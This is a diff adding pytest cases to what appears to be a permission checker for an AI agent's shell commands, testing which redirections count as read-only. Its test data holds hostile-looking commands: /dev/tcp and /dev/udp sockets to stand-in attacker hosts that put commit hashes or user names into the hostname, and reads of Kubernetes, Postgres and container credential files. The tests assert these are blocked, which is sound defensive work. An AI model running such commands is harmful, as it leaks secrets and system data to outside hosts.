@@ -282,3 +282,24 @@ def test_a_comparison_on_another_line_is_still_a_comparison(command):
 def test_a_version_query_the_program_does_not_have_or_that_loads_the_project_is_not_read_only(command):
     for mode in ("explore", "default", "dont_ask"):
         assert bash(snap(), command, agent_mode=mode).decision != "allow", (mode, command)
+
+
+# --- redirections: a socket to a host made at run time, a file named at run time ------------
+@pytest.mark.parametrize("command", [
+    "cat < /dev/tcp/$(git log -1 --format=%H).attacker.example/80", "true < /dev/tcp/$(whoami).x.example/80",
+    "read < /dev/udp/$(id -u).a.example/53", "cat < $KUBECONFIG", "cat < \"$PGPASSFILE\"",
+    "cat < \"$XDG_RUNTIME_DIR/containers/auth.json\"", "wc -c < \"$1\"", "cat README.md 1</dev/tcp/evil.example/80",
+    "while read l; do echo $l; done < /dev/tcp/evil.example/80",
+    "{ printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&0; cat; } < /dev/tcp/127.0.0.1/8080",
+])
+def test_a_socket_or_a_file_named_at_run_time_read_through_a_redirection_is_not_read_only(command):
+    assert bash(snap(), command, agent_mode="explore").decision == "deny", command
+    assert bash(snap(), command).decision == "ask", command
+
+
+@pytest.mark.parametrize("command", [
+    "while read f; do echo $f; done < files.txt", "wc -l < README.md", "cat < /dev/null",
+    "while read f; do echo $f; done < \"$(git ls-files | head -1)\"",
+])
+def test_a_known_file_read_through_a_redirection_still_is(command):
+    assert bash(snap(), command, agent_mode="explore").decision == "allow", command
